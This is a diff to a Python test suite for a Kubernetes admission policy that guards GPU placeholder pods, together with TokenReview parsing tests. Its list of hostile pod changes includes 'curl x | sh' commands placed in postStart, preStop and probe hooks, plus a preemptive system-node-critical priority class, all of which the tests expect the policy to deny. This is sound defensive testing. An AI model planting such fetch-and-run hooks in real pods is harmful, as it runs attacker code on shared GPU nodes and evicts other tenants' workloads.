@@ -13,8 +13,12 @@ import ssl
 import threading
 import uuid
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 from urllib.parse import parse_qs, urlparse
 
+import celpy
+import httpx
+import kubernetes_validate
 import pytest
 import yaml
 from cryptography import x509
@@ -26,7 +30,6 @@ from endpoints.fleet.providers import get_provider, k8s_api, kubernetes
 from endpoints.fleet.providers.base import LaunchSpec, PoolSpec, ProviderError, ProviderUnreachable
 from endpoints.fleet.providers.k8s_placeholder import placeholder_pod
 from gpu_agent.runtime import control_plane as control_plane_client
-from tests.infra import cel
 from tests.infra.conftest import render, run_tool, tool
 
 SA_TOKEN = "service-account-token-0123456789"
@@ -143,6 +146,15 @@ def test_the_node_pools_overlay_lets_the_worker_manage_pods_and_pooled_agents_cl
 POLICY = "inferplane-node-pools-placeholders"
 
 
+def _cel(expression: str, activation: dict):
+    """`expression`'s value under `activation` (JSON values), by cel-python (a CEL implementation to the language's
+    spec: its `has()`, `all()`, error and overload rules); raises `celpy.CELEvalError` where CEL's evaluation errs."""
+    environment = celpy.Environment()
+    values = {name: value if isinstance(value, celpy.celtypes.MapType) else celpy.json_to_cel(value)
+              for name, value in activation.items()}
+    return environment.program(environment.compile(expression)).evaluate(values)
+
+
 def _denied(rendered, username: str, operation: str, pod: dict) -> list[str]:
     """What the rendered ValidatingAdmissionPolicy answers a request of `username` to `operation` (CREATE, DELETE)
     `pod`: the messages of the rules it breaks (a rule whose evaluation errs denies, `failurePolicy: Fail`); [] when it
@@ -160,16 +172,19 @@ def _denied(rendered, username: str, operation: str, pod: dict) -> list[str]:
     env = {"request": {"operation": operation, "userInfo": {"username": username}, "namespace": "inferplane"},
            "object": pod if operation == "CREATE" else None, "oldObject": pod if operation == "DELETE" else None,
            "params": params}
-    if not all(cel.evaluate(condition["expression"], env) for condition in policy["matchConditions"]):
+    if not all(_cel(condition["expression"], env) == celpy.celtypes.BoolType(True)
+               for condition in policy["matchConditions"]):
         return []
-    env["variables"] = {}
+    variables = celpy.celtypes.MapType()
     for variable in policy.get("variables", []):
-        env["variables"][variable["name"]] = cel.evaluate(variable["expression"], env)
+        variables[celpy.celtypes.StringType(variable["name"])] = _cel(variable["expression"], env | {
+            "variables": variables})
+    env["variables"] = variables
     broken = []
     for rule in policy["validations"]:
         try:
-            allowed = cel.evaluate(rule["expression"], env) is True
-        except cel.CelError:
+            allowed = _cel(rule["expression"], env) == celpy.celtypes.BoolType(True)
+        except celpy.CELEvalError:
             allowed = False
         if not allowed:
             broken.append(rule["message"])
@@ -232,9 +247,34 @@ def test_the_node_pools_worker_may_create_and_delete_only_the_placeholders_the_p
         "a second container": lambda spec, container, meta: spec["containers"].append(dict(container, name="x")),
         "an init container": lambda spec, container, meta: spec.update(initContainers=[dict(container, name="x")]),
         "no placeholder labels": lambda spec, container, meta: meta.update(labels={"app": "miner"}),
+        # NOTE: each runs a command of its choosing in the placeholder, which holds the node's GPUs (the device plugin
+        # hands them to it) and reaches anywhere (no egress policy selects it): the image's own `sleep` is not all.
+        "a command on start": lambda spec, container, meta: container.update(
+            lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "curl x | sh"]}}}),
+        "a command on stop": lambda spec, container, meta: container.update(
+            lifecycle={"preStop": {"exec": {"command": ["sh", "-c", "curl x | sh"]}}}),
+        "a liveness probe's command": lambda spec, container, meta: container.update(
+            livenessProbe={"exec": {"command": ["sh", "-c", "curl x | sh"]}, "periodSeconds": 10}),
+        "a readiness probe's command": lambda spec, container, meta: container.update(
+            readinessProbe={"exec": {"command": ["sh", "-c", "curl x | sh"]}}),
+        "a startup probe's command": lambda spec, container, meta: container.update(
+            startupProbe={"exec": {"command": ["sh", "-c", "curl x | sh"]}}),
+        # NOTE: any namespace may name the built-in classes: the scheduler then evicts whatever runs on the node the
+        # placeholder's selector names (the web pods, another tenant's) to make room for it.
+        "a priority class that preempts": lambda spec, container, meta: spec.update(
+            priorityClassName="system-node-critical"),
     }
     for what, change in hostile.items():
         assert _denied(rendered, worker, "CREATE", changed(change)), f"admitted a placeholder with {what}"
+    # A cluster whose globalDefault PriorityClass the admission names on every pod names it in the ConfigMap.
+    params = rendered.get("ConfigMap", "inferplane-placeholder-policy")["data"]
+    params["priorityClassName"] = "batch-default"
+    try:
+        assert _denied(rendered, worker, "CREATE", changed(
+            lambda spec, container, meta: spec.update(priorityClassName="batch-default"))) == []
+        assert _denied(rendered, worker, "CREATE", changed(hostile["a priority class that preempts"]))
+    finally:
+        del params["priorityClassName"]
     web_pod = {"metadata": {"name": "inferplane-web-7d9f", "labels": {"app.kubernetes.io/component": "web"}},
                "spec": {"containers": [{"name": "web", "image": "inferplane/controlplane"}]}}
     assert _denied(rendered, worker, "DELETE", web_pod) == [
@@ -259,6 +299,7 @@ class _ApiServer:
         # Projected service-account tokens the API server issued: token -> (pod name, pod uid, audiences).
         self.pod_tokens: dict[str, tuple[str, str, tuple[str, ...]]] = {}
         self.reviews_unreachable = False
+        self.reviews_throttled = False  # 429, as API Priority and Fairness answers a flow over its share
         server = self
 
         class Handler(BaseHTTPRequestHandler):
@@ -292,6 +333,9 @@ class _ApiServer:
             def _review(self):
                 """A TokenReview, as the API server answers it for a pod's projected service-account token."""
                 review = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+                if server.reviews_throttled:
+                    return self._answer(429, {"kind": "Status", "reason": "TooManyRequests", "code": 429,
+                                              "message": "Too many requests, please try again later."})
                 if server.reviews_unreachable:
                     return self._answer(503, {"kind": "Status", "reason": "ServiceUnavailable", "message": "etcd"})
                 pod_name, pod_uid, audiences = server.pod_tokens.get(review["spec"]["token"], ("", "", ()))
@@ -585,3 +629,89 @@ def test_templates_are_checked_field_by_field():
     assert "template.zones" in errors({"zones": "us-east-1a"})
     assert get_provider("kubernetes").zones(TEMPLATE) == ["us-east-1a", "us-east-1b"]
     assert get_provider("kubernetes").zones({}) == [""]
+
+
+def _reviewed(monkeypatch, status) -> str:
+    """`reviewed_agent_pod` of a token the API server's review answers `status` for (as the namespace `inferplane`)."""
+    monkeypatch.setattr(kubernetes, "service_account_namespace", lambda: "inferplane")
+    monkeypatch.setattr(kubernetes, "_api", lambda: type("Api", (), {"review_token": lambda self, token, audience: status})())
+    return kubernetes.reviewed_agent_pod("eyJhbGciOiJSUzI1NiJ9.pod.sig", "ip-10-0-3-17.ec2.internal")
+
+
+def test_a_token_review_binds_only_an_answer_naming_one_agent_pod_on_the_node_and_no_odd_shape_is_a_500(monkeypatch):
+    """Every answer shape the review may take short of one agent pod on the registration's node (no `extra`, several
+    values, an API server before 1.30 naming no node, no audiences, no user, values of another type) is a refusal
+    naming why (`ProviderError`, a 401), never the uid of the wrong pod nor an exception the agent API answers 500."""
+    account = "system:serviceaccount:inferplane:inferplane-agent"
+    extra = {"authentication.kubernetes.io/pod-name": ["inferplane-agent-x7k2p"],
+             "authentication.kubernetes.io/pod-uid": ["4f1e0c9a-uid"],
+             "authentication.kubernetes.io/node-name": ["ip-10-0-3-17.ec2.internal"]}
+    good = {"authenticated": True, "audiences": [kubernetes.AGENT_TOKEN_AUDIENCE],
+            "user": {"username": account, "extra": extra}}
+    assert _reviewed(monkeypatch, good) == "4f1e0c9a-uid"
+    odd = {
+        "no extra": good | {"user": {"username": account}},
+        "extra not a map": good | {"user": {"username": account, "extra": ["x"]}},
+        "two pods": good | {"user": {"username": account, "extra": extra | {
+            "authentication.kubernetes.io/pod-uid": ["4f1e0c9a-uid", "other-uid"]}}},
+        "no node (before 1.30)": good | {"user": {"username": account, "extra": {
+            key: value for key, value in extra.items() if not key.endswith("node-name")}}},
+        "a uid not a string": good | {"user": {"username": account, "extra": extra | {
+            "authentication.kubernetes.io/pod-uid": [7]}}},
+        "no audiences": {key: value for key, value in good.items() if key != "audiences"},
+        "audiences not a list": good | {"audiences": kubernetes.AGENT_TOKEN_AUDIENCE},
+        "no user": {key: value for key, value in good.items() if key != "user"},
+        "user not a map": good | {"user": account},
+        "authenticated as a string": good | {"authenticated": "true"},
+        "refused with an error of another type": {"authenticated": False, "error": {"reason": "x"}},
+    }
+    for what, status in odd.items():
+        with pytest.raises(ProviderError):
+            _reviewed(monkeypatch, status)
+            pytest.fail(f"bound a review with {what}")
+
+
+def test_a_token_review_answered_with_a_body_that_is_no_object_is_an_error_not_a_500(monkeypatch):
+    """An answer whose JSON is not an object (a proxy's, an API server's broken answer) is a `ProviderError`."""
+    api = k8s_api.KubernetesApi("https://127.0.0.1:1", "t")
+    for body in ([], "ok", None, 7):
+        monkeypatch.setattr(api, "_call", lambda *args, body=body, **kwargs: httpx.Response(201, json=body))
+        with pytest.raises(ProviderError):
+            api.review_token("eyJhbGciOiJSUzI1NiJ9.pod.sig", kubernetes.AGENT_TOKEN_AUDIENCE)
+
+
+def _pod_schema_misses(expression: str) -> list[str]:
+    """The field selections of `expression` on the pod (`object.spec…`, `variables.pod…`, a container `c.…`) that the
+    Pod's schema (kubernetes-validate's, the API server's OpenAPI) has no field for. NOTE: what cel-python cannot tell:
+    the API server type-checks a policy against the resource's schema (a misspelt field fails there, and with it every
+    placeholder), cel-python evaluates JSON, where a misspelt field is only absent: `!has(c.lifecyle)` passed here."""
+    schemas = Path(kubernetes_validate.__file__).parent / "kubernetes-json-schema"
+    version = max((folder for folder in schemas.iterdir() if folder.name.endswith("-local")),
+                  key=lambda folder: tuple(int(part) for part in folder.name[1:].split("-")[0].split(".")))
+    definitions = json.loads((version / "_definitions.json").read_text())["$defs"]
+    roots = {"object": "io.k8s.api.core.v1.Pod", "oldObject": "io.k8s.api.core.v1.Pod",
+             "variables.pod": "io.k8s.api.core.v1.Pod", "c": "io.k8s.api.core.v1.Container"}
+    misses = []
+    for first, chain in re.findall(r"(?<![\w.])(variables\.pod|object|oldObject|c)((?:\.[A-Za-z]\w*)+)", expression):
+        definition = definitions[roots[first]]
+        for name in chain.split(".")[1:]:
+            fields = definition.get("properties", {})
+            if name not in fields:
+                if name not in ("all", "exists", "startsWith", "endsWith"):
+                    misses.append(f"{first}{chain}")
+                break
+            field = fields[name]
+            reference = field.get("$ref") or field.get("items", {}).get("$ref")
+            if reference is None:
+                break
+            definition = definitions[reference.rsplit("/", 1)[-1]]
+    return misses
+
+
+def test_every_field_the_placeholder_policy_reads_is_a_field_of_the_pod():
+    """A misspelt field in the policy would read as absent (`!has()` true) and admit what the rule means to refuse."""
+    rendered = render("production-node-pools")
+    policy = rendered.get("ValidatingAdmissionPolicy", POLICY)["spec"]
+    expressions = [item["expression"] for item in policy["validations"] + policy.get("variables", [])]
+    assert _pod_schema_misses("!has(c.lifecyle) && has(object.spec.containers) && c.image == ''") == ["c.lifecyle"]
+    assert [miss for expression in expressions for miss in _pod_schema_misses(expression)] == []
